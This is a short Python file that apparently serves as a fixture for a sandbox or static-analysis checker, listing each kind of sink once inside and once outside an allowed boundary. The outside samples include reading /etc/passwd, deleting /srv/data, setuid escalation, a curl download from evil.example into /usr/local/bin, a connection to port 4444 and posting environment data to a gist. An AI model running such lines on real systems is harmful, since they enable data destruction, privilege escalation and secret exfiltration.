"""Each kind of sink, once inside the boundary and once outside."""
import os, shutil, signal, socket, sqlite3, subprocess
from pathlib import Path
import psycopg2, requests

open("data/in.csv")
open("/etc/passwd")
Path("out.txt").write_text("x")
Path("/var/log/app.log").write_text("x")
os.remove("out.txt")
shutil.rmtree("/srv/data")
os.chmod("out.txt", 0o600)
os.chmod("/usr/bin/x", 0o4755)
requests.get("https://api.github.com/x")
requests.get("https://evil.example/x")
socket.create_connection(("203.0.113.7", 4444))
subprocess.run(["ls", "data"])
subprocess.run(["curl", "-o", "/usr/local/bin/x", "http://evil.example/x"])
os.environ["BILLING_TOKEN"]
os.kill(os.getppid(), signal.SIGKILL)
os.setuid(0)
sqlite3.connect(":memory:").execute("DROP TABLE t")
psycopg2.connect("dbname=x").cursor().execute("SELECT pg_read_file('/etc/passwd')")
requests.post("https://api.github.com/gists", data=os.environ["CITY"])
open(name)
requests.get(address)
